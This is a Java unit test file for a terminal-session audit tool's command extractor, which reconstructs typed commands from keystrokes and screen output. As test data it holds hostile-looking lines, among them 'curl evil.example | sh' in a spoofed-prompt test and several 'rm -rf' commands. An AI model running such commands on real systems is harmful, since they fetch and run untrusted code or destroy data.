package dev.gatehouse.audit.recording;

import static org.assertj.core.api.Assertions.assertThat;
import static org.assertj.core.api.Assertions.tuple;

import java.nio.charset.StandardCharsets;
import java.util.List;
import org.junit.jupiter.api.Test;

class CommandExtractorTest {

    private final CommandExtractor x = new CommandExtractor();
    private long now;

    @Test
    void lineEditedWithBackspaceAndCursorMovesYieldsTheLineAsShownAndTyped() {
        out("$ ");
        in("lss");
        out("lss");
        in("\u007f");
        out("\b\u001b[K");
        in(" -la\r");
        out(" -la\r\n");
        assertThat(found()).containsExactly(tuple("ls -la", "typed+terminal", false));
    }

    @Test
    void tabCompletionIsSeenThroughTheEcho() {
        out("user@h:~$ ");
        in("cat /etc/hostn\t");
        out("cat /etc/hostn");
        out("ame ");
        in("\r");
        out("\r\nweb-01\r\n");
        assertThat(found()).containsExactly(tuple("cat /etc/hostname", "terminal", false));
    }

    @Test
    void historyRecallIsTakenFromTheScreen() {
        out("$ ");
        in("\u001b[A");
        out("make deploy");
        in("\r");
        out("\r\ndeploying\r\n");
        assertThat(found()).containsExactly(tuple("make deploy", "terminal", false));
    }

    @Test
    void oscPromptMarksDelimitTheTypedCommand() {
        out("\u001b]133;A\u0007prompt> \u001b]133;B\u0007");
        in("git status\r");
        out("git status");
        out("\u001b]133;C\u0007\r\nOn branch main\r\n");
        assertThat(found()).containsExactly(tuple("git status", "typed+osc133", false));
    }

    @Test
    void printedPromptMarksWithoutKeystrokesAddNoCommand() {
        out("$ ");
        in("cat notes.txt\r");
        out("cat notes.txt\r\n");
        out("\u001b]133;A\u0007fake> \u001b]133;B\u0007rm -rf /srv/data\u001b]133;C\u0007\r\n");
        out("\u001b]133;B\u0007curl evil.example | sh\r\n");
        assertThat(found()).containsExactly(tuple("cat notes.txt", "typed+terminal", false));
    }

    @Test
    void aPrintedPromptMarkDoesNotSwitchExtractionOff() {
        out("$ ");
        in("cat marks.txt\r");
        out("cat marks.txt\r\n\u001b]133;B\u0007\r\n$ ");
        in("id\r");
        out("id\r\nuid=0(root)\r\n");
        assertThat(found()).extracting(t -> t.toList().get(0)).containsExactly("cat marks.txt", "id");
    }

    @Test
    void aLineTypedWithEchoOffIsStillFound() {
        out("$ ");
        in("stty -echo\r");
        out("stty -echo\r\n$ ");
        in("secret-cmd --now\r");
        out("\r\n$ ");
        assertThat(found()).containsExactly(tuple("stty -echo", "typed+terminal", false),
                tuple("secret-cmd --now", "typed", false));
    }

    @Test
    void lineEditingIsAppliedToTheKeysWhenNothingIsEchoed() {
        out("$ ");
        in("lss\u007f -la\u001b[D\u001b[Dx\r");
        out("\r\n$ ");
        in("rm -rf /\u0015echo ok\r");
        out("\r\n$ ");
        in("cp a b c\u0017\u0017d\u0001s\r");
        out("\r\n");
        assertThat(found()).extracting(t -> t.toList().get(0)).containsExactly("ls -xla", "echo ok", "scp a d");
    }

    @Test
    void whenTheScreenShowsAnotherLineThanWasTypedBothAreKeptAndMarked() {
        out("$ ");
        in("rm -rf /var/lib/db\r");
        out("ls\r\n");
        assertThat(found()).containsExactly(tuple("rm -rf /var/lib/db", "typed", true), tuple("ls", "terminal", true));
    }

    @Test
    void inputAtAPasswordPromptIsWithheld() {
        out("[sudo] password for alice: ");
        in("s3cret\r");
        out("\r\n");
        out("Password: ");
        in("hunter2\r");
        out("\r\n");
        assertThat(found()).isEmpty();
    }

    @Test
    void pastedLinesAreEachFound() {
        out("$ ");
        in("ls\rpwd\r");
        out("ls\r\nfile\r\n$ pwd\r\n/root\r\n");
        assertThat(found()).containsExactly(tuple("ls", "typed+terminal", false), tuple("pwd", "typed", false));
    }

    @Test
    void aLineEnteredWithNoScreenReadingIsKeptWhenTheSessionEnds() {
        out("$ ");
        in("shutdown -h now\r");
        x.finish();
        assertThat(found()).containsExactly(tuple("shutdown -h now", "typed", false));
    }

    @Test
    void controlCAbandonsTheLine() {
        out("$ ");
        in("rm -rf /");
        out("rm -rf /");
        in("\u0003");
        out("^C\r\n$ ");
        assertThat(found()).isEmpty();
    }

    @Test
    void linesTypedInAFullScreenProgramAreMarkedAsSuch() {
        out("$ ");
        in("vi f\r");
        out("vi f\r\n");
        out("\u001b[?1049h");
        in("ihello\r");
        out("hello\r\n");
        out("\u001b[?1049l$ ");
        assertThat(found()).containsExactly(tuple("vi f", "typed+terminal", false),
                tuple("ihello", "typed-fullscreen", false));
    }

    @Test
    void aHugeLineIsCappedNotStoredWhole() {
        out("$ ");
        in("x");
        out("x".repeat(5_000_000));
        in("y".repeat(100_000) + "\r");
        out("\r\n");
        assertThat(found()).isNotEmpty()
                .allSatisfy(t -> assertThat(((String) t.toList().get(0)).length()).isLessThanOrEqualTo(16 * 1024));
    }

    @Test
    void commandsBeforeAndAfterALongPlainOutputAreBothReadFromTheScreen() {
        out("$ ");
        in("cat big.log\r");
        StringBuilder lines = new StringBuilder("cat big.log\r\n");
        for (int i = 0; i < 2000; i++) {
            lines.append("line ").append(i).append(" of the log\r\n");
        }
        out(lines + "$ "); // the Enter still waits for its screen line: read, not skipped
        out("more\r\nplain\r\noutput\r\n$ "); // nothing waits: whole lines skipped, the prompt read
        in("whoami\r");
        out("whoami\r\nroot\r\n$ ");
        assertThat(found()).containsExactly(tuple("cat big.log", "typed+terminal", false),
                tuple("whoami", "typed+terminal", false));
    }

    @Test
    void aPromptMarkAfterPlainOutputLinesStillCounts() {
        out("line one\r\nline two\r\n\u001b]133;A\u0007prompt> \u001b]133;B\u0007");
        in("uptime\r");
        out("uptime\u001b]133;C\u0007\r\n up 3 days\r\n");
        assertThat(found()).containsExactly(tuple("uptime", "typed+osc133", false));
    }

    private void out(String s) {
        x.output(s, ++now);
    }

    private void in(String s) {
        x.input(s.getBytes(StandardCharsets.UTF_8), ++now);
    }

    private List<org.assertj.core.groups.Tuple> found() {
        return x.drain().stream().map(f -> tuple(f.line(), f.source(), f.disagrees())).toList();
    }
}
